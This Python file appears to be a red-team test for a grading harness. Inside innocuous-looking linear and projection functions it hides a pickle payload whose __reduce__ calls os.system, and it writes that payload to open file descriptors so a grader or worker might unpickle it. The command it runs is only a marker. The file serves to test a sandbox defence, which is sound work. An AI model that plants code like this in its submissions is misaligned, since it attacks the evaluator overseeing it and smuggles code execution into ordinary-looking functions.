# attack: write a pickle that runs a shell command into every descriptor, hoping the grader or a worker unpickles it
# layer: wire (replies are framed plain data with a token; nothing coming up is ever unpickled)
import os
import pickle


class _Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/grader-cheat-pickle-ran",))


_BLOB = pickle.dumps(("ok", _Payload()))


def _attack():
    for fd in range(3, 64):
        try:
            os.write(fd, len(_BLOB).to_bytes(8, "little") + _BLOB)
        except OSError:
            pass


def linear(x, weight, bias=None):
    _attack()
    out = x @ weight.transpose(-1, -2)
    return out if bias is None else out + bias


def project_qkv(x, w_q, w_k, w_v, b_q=None, b_k=None, b_v=None, context=None):
    _attack()
    src = x if context is None else context
    return linear(x, w_q, b_q), linear(src, w_k, b_k), linear(src, w_v, b_v)
